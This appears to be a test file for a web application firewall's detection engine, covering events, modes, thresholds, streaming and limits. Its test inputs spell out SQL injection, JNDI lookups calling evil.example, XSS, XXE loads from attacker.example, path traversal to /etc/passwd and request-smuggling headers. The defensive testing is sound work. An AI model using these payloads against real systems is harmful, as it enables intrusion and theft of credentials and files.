// The detection engine through the compiled filter in the host: where it looks (locations),
// what an http.attack event carries, modes and waf.action, paranoia, threshold, exclusions,
// streaming body inspection (what is held, what is released), and every limit's counter.
import { strict as assert } from 'node:assert';
import { describe, it } from 'node:test';
import type { WafConfig } from '../../control-plane/src/compile/filter-config.js';
import type { HeaderList } from '../../host-agent/src/wasm-host/api.js';
import { FRONTEND, call, config, get, request, startFilter, streamInfo, type Filter, type Json } from './helpers.js';

const ALL = [{ id: 'shop/orders/any', name: 'any', from: [], http: [], grpc: [] }];
const WAF: WafConfig = { action: 'block', paranoia: 1, threshold: 5, exclusions: [] };

function detecting(waf: Partial<WafConfig> = {}, mode: 'discover' | 'monitor' | 'protect' = 'protect', maxBodyBytes = 65536) {
  return startFilter(config({ mode, ingress: ALL, waf: { ...WAF, ...waf }, limits: { maxBodyBytes, maxEventFieldBytes: 1024 } }));
}

function attacks(f: Filter): Json[] {
  return f.loggedEvents().filter((e) => e.kind === 'http.attack');
}

const enc = (s: string) => encodeURIComponent(s);
const json = (body: unknown): [HeaderList, Uint8Array[]] =>
  [call('POST', '/api/orders', 'orders.shop', [['content-type', 'application/json']]), [Buffer.from(JSON.stringify(body))]];

describe('detection: verdicts and events', () => {
  it('blocks an attack in a query parameter with the 403 body and an http.attack event', async () => {
    const f = await detecting();
    try {
      const o = request(f, get(`/api/items?id=${enc("1' OR '1'='1")}`));
      assert.equal(o.status, 403);
      assert.equal(o.forwarded, false);
      const body = JSON.parse(o.responseBody) as { error: string; event: string };
      assert.equal(body.error, 'blocked');
      const [e] = attacks(f);
      assert.equal(e.id, body.event);
      assert.equal(e.kind, 'http.attack');
      assert.equal(e.action, 'block');
      assert.equal(e.severity, 'critical');
      assert.deepEqual(e.attack, { class: 'sqli', technique: 'T1190', tactic: 'initial-access', confidence: (e.attack as Json).confidence });
      assert.ok(((e.attack as Json).confidence as number) >= 50);
      const ev = e.evidence as Json;
      assert.equal(ev.location, 'query.id');
      assert.match(ev.match as string, /OR/);
      assert.equal(ev.threshold, 5);
      assert.deepEqual(ev.classes, ['sqli']);
      assert.deepEqual(e.rule, { id: `waf/sqli/${ev.rule as string}`, name: ev.rule });
      assert.equal(f.metric('meshward.attacks'), 1);
      assert.equal(f.metric('meshward.attacks_blocked'), 1);
    } finally {
      await f.close();
    }
  });

  it('names where it matched: path, headers, cookies, form, JSON, multipart, XML', async () => {
    const f = await detecting();
    try {
      const cases: Array<[string, HeaderList, Uint8Array[]]> = [
        ['path', get('/static/..%2f..%2f..%2fetc%2fpasswd'), []],
        ['header.user-agent', [...get('/'), ['user-agent', '${jndi:ldap://evil.example/a}']], []],
        ['header.x-api-version', [...get('/'), ['x-api-version', '${${lower:j}ndi:ldap://e.example/x}']], []],
        ['cookie.session', [...get('/'), ['cookie', `theme=dark; session=${enc('<script>alert(1)</script>')}`]], []],
        ['body.form.comment', call('POST', '/c', 'orders.shop', [['content-type', 'application/x-www-form-urlencoded']]), [Buffer.from(`a=1&comment=${enc('; cat /etc/passwd')}`)]],
        ['body.json.user.name', ...json({ user: { name: "x' UNION SELECT password FROM users--" } })],
        ['body.multipart.bio', call('POST', '/u', 'orders.shop', [['content-type', 'multipart/form-data; boundary=XyZ']]),
          [Buffer.from('--XyZ\r\nContent-Disposition: form-data; name="bio"\r\n\r\n<img src=x onerror=alert(1)>\r\n--XyZ--\r\n')]],
        ['body.multipart.file.filename', call('POST', '/u', 'orders.shop', [['content-type', 'multipart/form-data; boundary=XyZ']]),
          [Buffer.from('--XyZ\r\nContent-Disposition: form-data; name="file"; filename="../../../../etc/passwd"\r\n\r\nhello\r\n--XyZ--\r\n')]],
        ['body.xml.note', call('POST', '/x', 'orders.shop', [['content-type', 'application/xml']]), [Buffer.from('<order><note>{{7*7}}</note></order>')]],
        ['body.xml', call('POST', '/x', 'orders.shop', [['content-type', 'text/xml']]), [Buffer.from('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')]],
      ];
      for (const [location, headers, body] of cases) {
        const before = attacks(f).length;
        const o = request(f, headers, FRONTEND, body);
        assert.equal(o.status, 403, location);
        const e = attacks(f)[before];
        assert.equal((e.evidence as Json).location, location);
      }
    } finally {
      await f.close();
    }
  });

  it('XML Schema directives and XInclude loading from a scheme or an absolute path are xxe; relative names and prose are not', async () => {
    const f = await detecting();
    const xs = 'xmlns:xs="http://www.w3.org/2001/XMLSchema"';
    const loading: Array<[string, string]> = [
      ['external-schema', `<xs:schema ${xs}><xs:include schemaLocation="file:///etc/passwd"/></xs:schema>`],
      ['external-schema', `<xs:schema ${xs}><xs:import namespace="urn:x" schemaLocation="http://attacker.example/x.xsd"/></xs:schema>`],
      ['external-schema', `<xsd:schema xmlns:xsd="http://www.w3.org/2001/XMLSchema"><xsd:redefine schemaLocation="https://198.51.100.7/a.xsd"/></xsd:schema>`],
      ['external-schema', `<schema xmlns="http://www.w3.org/2001/XMLSchema"><override schemaLocation='ftp://198.51.100.9/o.xsd'/></schema>`],
      ['external-schema', `<xs:schema ${xs}><xs:include\n  schemaLocation = "/etc/shadow"/></xs:schema>`],
      // a '>' in an earlier attribute value does not end the element
      ['external-schema', `<xs:schema ${xs}><xs:import namespace="a>b" schemaLocation="jar:file:///tmp/u.zip!/a.xsd"/></xs:schema>`],
      ['external-schema', `<xs:schema ${xs}><xs:import namespace="urn:x" schemaLocation="http://www.w3.org.attacker.example/xml.xsd"/></xs:schema>`],
      // however many relative ones come first
      ['external-schema', `<xs:schema ${xs}>${'<xs:include schemaLocation="part.xsd"/>'.repeat(40)}<xs:import namespace="urn:x" schemaLocation="https://attacker.example/x.xsd"/></xs:schema>`],
      ['xinclude', '<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></doc>'],
      ['xinclude', '<doc><include xmlns="http://www.w3.org/2001/XInclude" href="http://10.0.0.12/admin" parse="text"/></doc>'],
      // an internal entity declared first does not hide them, nor an external DTD
      ['external-schema', `<!DOCTYPE s [<!ENTITY v "1.0">]><xs:schema ${xs} version="&v;"><xs:import namespace="urn:x" schemaLocation="http://attacker.example/x.xsd"/></xs:schema>`],
      ['xinclude', '<!DOCTYPE d [<!ENTITY v "1.0">]><d xmlns:xi="http://www.w3.org/2001/XInclude">&v;<xi:include href="http://10.0.0.12/admin" parse="text"/></d>'],
      ['external-dtd', '<!DOCTYPE d SYSTEM "http://attacker.example/d.dtd" [<!ENTITY v "1.0">]><d>&v;</d>'],
    ];
    const clean = [
      `<xs:schema ${xs}><xs:include schemaLocation="common-types.xsd"/><xs:import namespace="urn:a" schemaLocation="address/address.xsd"/></xs:schema>`,
      `<xs:schema ${xs}><xs:import namespace="http://www.w3.org/XML/1998/namespace" schemaLocation="http://www.w3.org/2001/xml.xsd"/></xs:schema>`,
      '<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd"><modelVersion>4.0.0</modelVersion></project>',
      `<xs:schema ${xs}><xs:annotation><xs:documentation>An include with schemaLocation="http://example.com/a.xsd" is refused.</xs:documentation></xs:annotation></xs:schema>`,
      '<?xml version="1.0"?><recipe><step>Include the zest, then import the spices.</step></recipe>',
      '<!DOCTYPE d [<!ENTITY v "1.0">]><d>&v;</d>', // an internal entity alone is below the threshold
    ];
    const xml = call('POST', '/x', 'orders.shop', [['content-type', 'application/xml']]);
    try {
      for (const [rule, body] of loading) {
        const before = attacks(f).length;
        assert.equal(request(f, xml, FRONTEND, [Buffer.from(body)]).status, 403, body);
        const e = attacks(f)[before];
        assert.equal((e.attack as Json).class, 'xxe', body);
        assert.equal((e.evidence as Json).rule, rule, body);
      }
      for (const body of clean) assert.equal(request(f, xml, FRONTEND, [Buffer.from(body)]).status, 200, body);
      assert.equal(attacks(f).length, loading.length);
    } finally {
      await f.close();
    }
  });

  it('multipart: field names are inspected, LF-only parts are read, and content keeps its +', async () => {
    const f = await detecting();
    const mp = (body: string): [HeaderList, Uint8Array[]] =>
      [call('POST', '/u', 'orders.shop', [['content-type', 'multipart/form-data; boundary=Qz9']]), [Buffer.from(body)]];
    try {
      const [h1, b1] = mp('--Qz9\r\nContent-Disposition: form-data; name="../../../../etc/shadow"\r\n\r\nx\r\n--Qz9--\r\n');
      assert.equal(request(f, h1, FRONTEND, b1).status, 403);
      assert.equal((attacks(f).at(-1)?.attack as Json).class, 'path-traversal');
      const [h2, b2] = mp('--Qz9\nContent-Disposition: form-data; name="bio"\n\n<script>alert(1)</script>\n--Qz9--\n');
      assert.equal(request(f, h2, FRONTEND, b2).status, 403);
      // '+' is SQL's concatenation here, not an encoded space
      const [h3, b3] = mp("--Qz9\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n' union select name+':'+secret from vault--\r\n--Qz9--\r\n");
      assert.equal(request(f, h3, FRONTEND, b3).status, 403);
      const [h4, b4] = mp('--Qz9\nContent-Disposition: form-data; name="title"\n\nC++ and Go, side by side\n--Qz9\nContent-Disposition: form-data; name="tags"\n\nlang, compare\n--Qz9--\n');
      assert.equal(request(f, h4, FRONTEND, b4).status, 200);
    } finally {
      await f.close();
    }
  });

  it("base64 in a query or form value is decoded as sent, before '+' becomes a space", async () => {
    const f = await detecting();
    try {
      const b = Buffer.from('<svg/onload=confirm(5)>>').toString('base64').replace(/=/g, '');
      assert.ok(b.includes('+'));
      assert.equal(request(f, get(`/search?data=${b}`)).status, 403);
      const form = call('POST', '/c', 'orders.shop', [['content-type', 'application/x-www-form-urlencoded']]);
      assert.equal(request(f, form, FRONTEND, [Buffer.from(`a=1&data=${b}`)]).status, 403);
      // base64 of harmless text with a '+' passes
      const ok = Buffer.from('Totals: 3 >> 2 ~ fine').toString('base64');
      assert.ok(ok.includes('+'));
      assert.equal(request(f, get(`/search?data=${ok}`)).status, 200);
    } finally {
      await f.close();
    }
  });

  it('lets benign traffic of the kinds naive WAFs block through, without events', async () => {
    const f = await detecting();
    try {
      const values = [
        "O'Brien", "Please select the best option from the list", "It's 5 o'clock -- don't be late",
        '<p>Hello <b>world</b>, see <a href="https://example.com/x">docs</a></p>', 'Run `npm install` then `npm test`.',
        'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl', '東京都渋谷区 😀', 'Tom & Jerry; cats & dogs', '1/2 inch | 3/4 inch',
      ];
      for (const v of values) {
        assert.equal(request(f, get(`/search?q=${enc(v)}`)).status, 200, v);
        const [h, b] = json({ comment: v });
        assert.equal(request(f, h, FRONTEND, b).status, 200, v);
      }
      const gql = JSON.stringify({ query: 'query { product(id: "42") { name reviews(first: 5) { text } } }', variables: {} });
      assert.equal(request(f, call('POST', '/graphql', 'orders.shop', [['content-type', 'application/json']]), FRONTEND, [Buffer.from(gql)]).status, 200);
      assert.equal(attacks(f).length, 0);
    } finally {
      await f.close();
    }
  });
});

describe('detection: modes, actions, paranoia, threshold, exclusions', () => {
  const sqli = `/api/items?id=${enc("1' OR '1'='1")}`;

  it('monitor and discover report the attack (alert) and let it through', async () => {
    for (const mode of ['monitor', 'discover'] as const) {
      const f = await detecting({}, mode);
      try {
        const o = request(f, get(sqli));
        assert.equal(o.status, 200);
        const [e] = attacks(f);
        assert.equal(e.action, 'alert');
        assert.equal(e.mode, mode);
      } finally {
        await f.close();
      }
    }
  });

  it('waf.action alert reports without blocking; off does not look', async () => {
    let f = await detecting({ action: 'alert' });
    try {
      assert.equal(request(f, get(sqli)).status, 200);
      assert.equal(attacks(f)[0].action, 'alert');
    } finally {
      await f.close();
    }
    f = await detecting({ action: 'off' });
    try {
      assert.equal(request(f, get(sqli)).status, 200);
      assert.equal(attacks(f).length, 0);
    } finally {
      await f.close();
    }
  });

  it('a full SQL statement with no break counts at paranoia 2, not at 1', async () => {
    const path = `/q?sql=${enc('SELECT * FROM users')}`;
    let f = await detecting({ paranoia: 1 });
    try {
      assert.equal(request(f, get(path)).status, 200);
    } finally {
      await f.close();
    }
    f = await detecting({ paranoia: 2 });
    try {
      assert.equal(request(f, get(path)).status, 403);
    } finally {
      await f.close();
    }
  });

  it('the threshold decides: a higher one lets a single finding pass', async () => {
    const f = await detecting({ threshold: 20 });
    try {
      assert.equal(request(f, get(sqli)).status, 200);
      assert.equal(attacks(f).length, 0);
    } finally {
      await f.close();
    }
  });

  it('exclusions drop findings by path, location and class', async () => {
    const f = await detecting({ exclusions: [{ paths: ['/cms/**'], params: ['body.json.html', 'query.code*'], classes: ['xss'] }] });
    try {
      const xss = { html: '<script>alert(1)</script>' };
      const post = (path: string, body: unknown) => request(f, call('POST', path, 'orders.shop', [['content-type', 'application/json']]), FRONTEND, [Buffer.from(JSON.stringify(body))]);
      assert.equal(post('/cms/pages', xss).status, 200, 'excluded: path, location and class match');
      assert.equal(post('/api/pages', xss).status, 403, 'another path');
      assert.equal(post('/cms/pages', { text: xss.html }).status, 403, 'another location');
      assert.equal(post('/cms/pages', { html: "1' OR '1'='1" }).status, 403, 'another class');
      assert.equal(request(f, get(`/cms/x?code_sample=${enc('<script>alert(1)</script>')}`)).status, 200, 'prefix location');
      assert.ok(f.metric('meshward.findings_excluded') >= 2);
    } finally {
      await f.close();
    }
  });
});

describe('detection: request bodies stream', () => {
  it('forwards clean chunks at once and holds only an unfinished JSON string', async () => {
    const f = await detecting();
    try {
      const seen: number[] = [];
      const s = f.plugin.createHttpStream(streamInfo(FRONTEND), {
        requestHeaders() {}, requestData: (d) => seen.push(d.byteLength), requestTrailers() {},
        responseHeaders() {}, responseData() {}, responseTrailers() {}, reset() {},
      });
      s.decodeHeaders(call('POST', '/api/orders', 'orders.shop', [['content-type', 'application/json']]), false);
      s.decodeData(Buffer.from('{"a":"one","b":"two",'), false);
      assert.deepEqual(seen, [21], 'a chunk ending between values is released');
      s.decodeData(Buffer.from('"c":"thr'), false);
      assert.deepEqual(seen, [21], 'a chunk ending inside a string is held');
      s.decodeData(Buffer.from('ee"}'), true);
      assert.deepEqual(seen, [21, 12], 'released with the rest once judged');
      s.complete();
    } finally {
      await f.close();
    }
  });

  it('blocks an attack split across chunks before its second half is forwarded', async () => {
    const f = await detecting();
    try {
      const data: string[] = [];
      let status: string | undefined;
      const s = f.plugin.createHttpStream(streamInfo(FRONTEND), {
        requestHeaders() {}, requestData: (d) => data.push(Buffer.from(d).toString()), requestTrailers() {},
        responseHeaders: (h) => { status = h.find(([n]) => n === ':status')?.[1]; }, responseData() {}, responseTrailers() {}, reset() {},
      });
      s.decodeHeaders(call('POST', '/api/orders', 'orders.shop', [['content-type', 'application/json']]), false);
      s.decodeData(Buffer.from('{"ok":1,"q":"1\' UNION SEL'), false);
      s.decodeData(Buffer.from('ECT password FROM users--"}'), true);
      s.complete();
      assert.equal(status, '403');
      assert.ok(!data.join('').includes('UNION'), 'no part of the attack went upstream');
      assert.equal((attacks(f)[0].evidence as Json).location, 'body.json.q');
    } finally {
      await f.close();
    }
  });

  it('inspects a form body split mid-value', async () => {
    const f = await detecting();
    try {
      const h = call('POST', '/c', 'orders.shop', [['content-type', 'application/x-www-form-urlencoded']]);
      const o = request(f, h, FRONTEND, [Buffer.from('name=ann&bio=%3Cscr'), Buffer.from('ipt%3Ealert(1)%3C%2Fscript%3E&x=1')]);
      assert.equal(o.status, 403);
      assert.equal((attacks(f)[0].evidence as Json).location, 'body.form.bio');
    } finally {
      await f.close();
    }
  });
});

describe('detection: limits and their counters', () => {
  it('limits.maxBodyBytes: bytes past the window pass uninspected (body_truncated)', async () => {
    const f = await detecting({}, 'protect', 1024);
    try {
      const h = call('POST', '/t', 'orders.shop', [['content-type', 'text/plain']]);
      const o = request(f, h, FRONTEND, [Buffer.from('a'.repeat(2000) + ' <script>alert(1)</script>')]);
      assert.equal(o.status, 200);
      assert.equal(f.metric('meshward.body_truncated'), 1);
      // inside the window it is found
      assert.equal(request(f, h, FRONTEND, [Buffer.from('<script>alert(1)</script>')]).status, 403);
    } finally {
      await f.close();
    }
  });

  it('parameters per request: past 1024 they are not inspected (params_exceeded) and it is a finding', async () => {
    const f = await detecting();
    try {
      const q = Array.from({ length: 1100 }, () => 'x=1').join('&');
      const o = request(f, get(`/s?${q}`));
      assert.equal(f.metric('meshward.params_exceeded'), 1);
      assert.equal(o.status, 403);
      assert.equal((attacks(f)[0].evidence as Json).rule, 'too-many-parameters');
    } finally {
      await f.close();
    }
  });

  it('a UNION SELECT after many prose mentions of "select", or a statement after many semicolons, is still found', async () => {
    const f = await detecting();
    try {
      const h = call('POST', '/notes', 'orders.shop', [['content-type', 'text/plain']]);
      const prose = Array.from({ length: 12 }, (_, i) => `Step ${i}: select the rows you want from the list and press save.`).join(' ');
      assert.equal(request(f, h, FRONTEND, [Buffer.from(prose)]).status, 200);
      const o = request(f, h, FRONTEND, [Buffer.from(`${prose} 0 union all select password, email from users`)]);
      assert.equal(o.status, 403);
      assert.equal((attacks(f)[0].evidence as Json).rule, 'union-select');
      // and a stacked statement after many harmless semicolons
      const list = Array.from({ length: 10 }, (_, i) => `item ${i}; `).join('');
      assert.equal(request(f, h, FRONTEND, [Buffer.from(`${list}done`)]).status, 200);
      assert.equal(request(f, h, FRONTEND, [Buffer.from(`${list}x; waitfor delay '0:0:5'`)]).status, 403);
    } finally {
      await f.close();
    }
  });

  it('JSON bodies past 1024 strings: counted, not inspected, but a constructor.prototype path is still found', async () => {
    const f = await detecting();
    try {
      const padding = Array.from({ length: 1100 }, (_, i) => `item ${i}`);
      // A script in a value past the limit passes (bounded work, counted)...
      const post = (body: unknown) => {
        const [headers, chunks] = json(body);
        return request(f, headers, FRONTEND, chunks);
      };
      const late = post({ padding, note: '<script>alert(1)</script>' });
      assert.equal(late.status, 200);
      assert.equal(f.metric('meshward.params_exceeded'), 1);
      // ...the same value before the limit is found...
      assert.equal(post({ note: '<script>alert(1)</script>', padding }).status, 403);
      // ...and a key that completes constructor.prototype is found wherever it comes.
      assert.equal(post({ padding, user: { constructor: { prototype: { admin: true } } } }).status, 403);
    } finally {
      await f.close();
    }
  });

  it('inspected bytes per request: past 1 MiB (inspected_bytes_exceeded)', async () => {
    const f = await detecting({}, 'protect', 4 << 20);
    try {
      const h = call('POST', '/t', 'orders.shop', [['content-type', 'text/plain']]);
      const o = request(f, h, FRONTEND, [Buffer.from('word '.repeat((3 << 20) / 10)), Buffer.from('word '.repeat((3 << 20) / 10))]);
      assert.equal(o.status, 200);
      assert.equal(f.metric('meshward.inspected_bytes_exceeded'), 1);
    } finally {
      await f.close();
    }
  });

  it('decode depth: a value still encoded after four passes is counted (decode_depth_exceeded)', async () => {
    const f = await detecting();
    try {
      let v = '<script>alert(1)</script>';
      for (let i = 0; i < 6; i++) v = encodeURIComponent(v);
      request(f, get(`/s?q=${v}`));
      assert.ok(f.metric('meshward.decode_depth_exceeded') >= 1);
    } finally {
      await f.close();
    }
  });

  it('finds keywords at every offset of a long text body, whole or in chunks, and passes the prose around them', async () => {
    // The keyword index tests every second position: words must be found at odd and even
    // offsets, at the very start and end, and across the chunk edges of a streamed body.
    const f = await detecting({}, 'protect', 1 << 20);
    try {
      const prose = "the customers pick items from the list and order them, it's fine -- don't you think? ".repeat(300);
      const h = () => call('POST', '/notes', 'orders.shop', [['content-type', 'text/plain']]);
      const payloads = ["' UNION SELECT password FROM users--", '${jndi:ldap://evil.example/a}'];
      assert.equal(request(f, h(), FRONTEND, [Buffer.from(prose)]).status, 200, 'prose alone passes');
      for (const payload of payloads) {
        for (let pad = 0; pad < 4; pad++) {
          const body = 'z'.repeat(pad) + payload + ' ' + prose + 'y'.repeat(pad) + ' ' + payload;
          assert.equal(request(f, h(), FRONTEND, [Buffer.from(body)]).status, 403, `${payload} after ${pad}`);
          const tail = prose + 'y'.repeat(pad) + ' ' + payload;
          assert.equal(request(f, h(), FRONTEND, [Buffer.from(tail)]).status, 403, `${payload} at the end after ${pad}`);
          const bytes = Buffer.from(tail);
          const chunks: Uint8Array[] = [];
          for (let i = 0; i < bytes.length; i += 5000 + pad) chunks.push(bytes.subarray(i, i + 5000 + pad));
          assert.equal(request(f, h(), FRONTEND, chunks).status, 403, `${payload} at the end, in chunks, after ${pad}`);
        }
      }
    } finally {
      await f.close();
    }
  });

  it('long values are inspected in overlapping windows (value_windowed)', async () => {
    const f = await detecting({}, 'protect', 1 << 20);
    try {
      const h = call('POST', '/t', 'orders.shop', [['content-type', 'application/json']]);
      const long = 'x'.repeat(40000) + "' UNION SELECT password FROM users--";
      const o = request(f, h, FRONTEND, [Buffer.from(JSON.stringify({ a: 'y'.repeat(20000) + ' ok', b: long }))]);
      assert.equal(o.status, 403);
      assert.ok(f.metric('meshward.value_windowed') >= 1);
    } finally {
      await f.close();
    }
  });
});

describe('detection: protocol abuse (through the host, as Node would reject some itself)', () => {
  const cases: Array<[string, HeaderList]> = [
    ['content-length-with-transfer-encoding', [...call('POST', '/a'), ['content-length', '5'], ['transfer-encoding', 'chunked']]],
    ['conflicting-content-length', [...call('POST', '/a'), ['content-length', '5'], ['content-length', '6']]],
    ['obfuscated-transfer-encoding', [...call('POST', '/a'), ['transfer-encoding', 'chunked, identity']]],
    ['invalid-content-length', [...call('POST', '/a'), ['content-length', '-1']]],
    ['control-bytes', [...get('/a'), ['x-note', 'a\u0000b']]],
    ['invalid-method', call('GE T', '/a')],
    ['unknown-method', call('JEFF', '/a')],
    ['overlong-uri', get('/a?q=' + 'x'.repeat(17000))],
    ['too-many-headers', [...get('/a'), ...Array.from({ length: 120 }, (_, i) => [`x-h${i}`, 'v'] as [string, string])]],
  ];
  for (const [rule, headers] of cases) {
    it(rule, async () => {
      const f = await detecting();
      try {
        const o = request(f, headers, FRONTEND, [Buffer.from('hello')]);
        assert.equal(o.status, 403);
        const e = attacks(f)[0];
        assert.equal((e.attack as Json).class, 'protocol');
        assert.equal((e.evidence as Json).rule, rule);
        assert.ok(f.metric('meshward.protocol_violations') >= 1);
      } finally {
        await f.close();
      }
    });
  }
});
